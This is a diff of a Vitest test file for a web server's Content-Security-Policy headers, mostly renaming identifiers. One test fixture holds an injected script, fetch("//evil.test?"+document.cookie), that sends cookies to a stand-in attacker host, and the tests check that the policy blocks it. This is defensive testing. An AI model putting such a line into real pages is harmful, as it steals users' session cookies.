@@ -1,7 +1,7 @@
 // @vitest-environment node
 import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
-import { foreignSources } from '#front/answer/foreign-sources.ts'
+import { thirdPartySources } from '#front/answer/third-party-sources.ts'
 import { fakeRenderer, page } from '#front/testing/fake-renderer.ts'
 import { serveFront } from '#front/testing/serve-front.ts'
 
@@ -13,9 +13,9 @@ test('a page’s policy allows the framework’s inline scripts by hash, and no 
   const { render } = fakeRenderer(() =>
     page(`<script>${own}</script><script type="application/ld+json">{"a":1}</script>`),
   )
-  const { ask } = await serveFront({ renderer: render })
-  const first = await ask('/de')
-  const hit = await ask('/de')
+  const { sendRequest } = await serveFront({ renderer: render })
+  const first = await sendRequest('/de')
+  const hit = await sendRequest('/de')
   const policy = policyOf(hit.headers['content-security-policy'])
 
   expect(policy).toContain(`script-src 'self' ${hashOf(own)};`)
@@ -26,22 +26,22 @@ test('a page’s policy allows the framework’s inline scripts by hash, and no 
 })
 
 test('a page with an unknown script is sent with a policy that blocks it, is not cached, and is logged', async () => {
-  const foreign = 'fetch("//evil.test?"+document.cookie)'
+  const thirdParty = 'fetch("//evil.test?"+document.cookie)'
   const { render } = fakeRenderer(() =>
-    page(`<script>${own}</script><SCRIPT data-x="1">${foreign}</SCRIPT>`),
+    page(`<script>${own}</script><SCRIPT data-x="1">${thirdParty}</SCRIPT>`),
   )
-  const { ask, logged } = await serveFront({ renderer: render })
+  const { sendRequest, logged } = await serveFront({ renderer: render })
 
   for (let round = 0; round < 2; round++) {
-    const { headers } = await ask('/de')
+    const { headers } = await sendRequest('/de')
     const policy = policyOf(headers['content-security-policy'])
     expect(policy).toContain(hashOf(own))
-    expect(policy).not.toContain(hashOf(foreign))
+    expect(policy).not.toContain(hashOf(thirdParty))
     expect(headers['cache-control']).toBe('private, no-store')
     expect(headers['cache-status']).toBe('front; fwd=bypass')
   }
   const warning = logged.find(({ msg }) => String(msg).includes('inline scripts'))
-  expect(warning).toMatchObject({ scripts: [foreign] })
+  expect(warning).toMatchObject({ scripts: [thirdParty] })
 })
 
 test('a header that the renderer writes twice is sent once', async () => {
@@ -49,16 +49,16 @@ test('a header that the renderer writes twice is sent once', async () => {
   const { render } = fakeRenderer(() =>
     page('', { headers: { ...page('').headers, link: [preload, preload] } }),
   )
-  const { ask } = await serveFront({ renderer: render })
-  expect((await ask('/de')).headers.link).toBe(preload)
+  const { sendRequest } = await serveFront({ renderer: render })
+  expect((await sendRequest('/de')).headers.link).toBe(preload)
 })
 
 test('third-party sources are only those that the site names', async () => {
   const { render } = fakeRenderer(() => page(''))
   const none: string[] = []
-  const { ask } = await serveFront({
+  const { sendRequest } = await serveFront({
     renderer: render,
-    foreign: {
+    thirdParty: {
       script: none,
       connect: none,
       image: none,
@@ -66,15 +66,15 @@ test('third-party sources are only those that the site names', async () => {
       frame: ['https://player.example'],
     },
   })
-  const policy = policyOf((await ask('/de')).headers['content-security-policy'])
+  const policy = policyOf((await sendRequest('/de')).headers['content-security-policy'])
   expect(policy).toContain("frame-src 'self' https://player.example;")
   expect(policy.match(/https:/g)).toHaveLength(1)
 })
 
 test('M-06 pages may frame the players of the known providers, and use nothing else of theirs', async () => {
   const { render } = fakeRenderer(() => page(''))
-  const { ask } = await serveFront({ renderer: render, foreign: foreignSources({}) })
-  const policy = policyOf((await ask('/de')).headers['content-security-policy'])
+  const { sendRequest } = await serveFront({ renderer: render, thirdParty: thirdPartySources({}) })
+  const policy = policyOf((await sendRequest('/de')).headers['content-security-policy'])
   const frames = /frame-src ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? []
   const { hostname: player } = new URL('https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ')
   expect(frames).toContain(`https://${player}`)
@@ -88,8 +88,11 @@ test('X-05 the policy allows the tag manager only where the theatre uses one', a
   const { render } = fakeRenderer(() => page(''))
   const policies = await Promise.all(
     [{}, { tagManagerId: 'GTM-PROBE1' }].map(async (services) => {
-      const { ask } = await serveFront({ renderer: render, foreign: foreignSources(services) })
-      return policyOf((await ask('/de')).headers['content-security-policy'])
+      const { sendRequest } = await serveFront({
+        renderer: render,
+        thirdParty: thirdPartySources(services),
+      })
+      return policyOf((await sendRequest('/de')).headers['content-security-policy'])
     }),
   )
   expect(policies[0]).not.toMatch(/google/)
